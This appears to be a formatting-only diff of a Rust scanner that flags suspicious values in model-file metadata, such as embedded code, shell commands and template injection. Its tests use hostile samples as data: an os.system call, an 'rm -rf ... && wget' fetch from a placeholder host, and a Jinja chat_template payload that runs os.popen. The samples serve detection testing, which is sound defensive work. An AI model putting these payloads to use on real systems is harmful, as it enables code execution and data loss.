@@ -134,7 +134,10 @@ pub fn check_metadata(
         }
         let lower = v.to_ascii_lowercase();
         let mut what: Vec<String> = Vec::new();
-        if let Some(p) = CODE.iter().find(|p| lower.contains(&p.to_ascii_lowercase())) {
+        if let Some(p) = CODE
+            .iter()
+            .find(|p| lower.contains(&p.to_ascii_lowercase()))
+        {
             what.push(format!("Python code (`{p}`)"));
         }
         if let Some(p) = SHELL.iter().find(|p| lower.contains(*p)) {
@@ -168,13 +171,26 @@ mod tests {
 
     #[test]
     fn suspicious_values() {
-        assert_eq!(hits(&[("m", "import os; os.system('echo pwned')")]).len(), 1);
         assert_eq!(
-            hits(&[("c", "chmod 777 /tmp/x"), ("s", "rm -rf /tmp/t && wget http://x.invalid/s.sh")]).len(),
+            hits(&[("m", "import os; os.system('echo pwned')")]).len(),
+            1
+        );
+        assert_eq!(
+            hits(&[
+                ("c", "chmod 777 /tmp/x"),
+                ("s", "rm -rf /tmp/t && wget http://x.invalid/s.sh")
+            ])
+            .len(),
             2
         );
-        assert_eq!(hits(&[("u", "see https://x.invalid/model.pkl?dl=1")]).len(), 1);
-        let t = hits(&[("chat_template", "{{ cycler.__init__.__globals__.os.popen('id') }}")]);
+        assert_eq!(
+            hits(&[("u", "see https://x.invalid/model.pkl?dl=1")]).len(),
+            1
+        );
+        let t = hits(&[(
+            "chat_template",
+            "{{ cycler.__init__.__globals__.os.popen('id') }}",
+        )]);
         assert_eq!(t[0].severity, Severity::Critical);
     }
 
@@ -184,11 +200,23 @@ mod tests {
             hits(&[
                 ("format", "pt"),
                 ("license", "apache-2.0"),
-                ("description", "A small transformer model for text classification"),
+                (
+                    "description",
+                    "A small transformer model for text classification"
+                ),
                 ("accuracy", "94.5%"),
-                ("source", "https://huggingface.co/org/model/resolve/main/model.safetensors"),
-                ("ss_network_args", "{\"conv_dim\": \"4\", \"algo\": \"lora\"}"),
-                ("chat_template", "{% for m in messages %}{{ m['content'] }}{% endfor %}"),
+                (
+                    "source",
+                    "https://huggingface.co/org/model/resolve/main/model.safetensors"
+                ),
+                (
+                    "ss_network_args",
+                    "{\"conv_dim\": \"4\", \"algo\": \"lora\"}"
+                ),
+                (
+                    "chat_template",
+                    "{% for m in messages %}{{ m['content'] }}{% endfor %}"
+                ),
             ])
             .is_empty()
         );
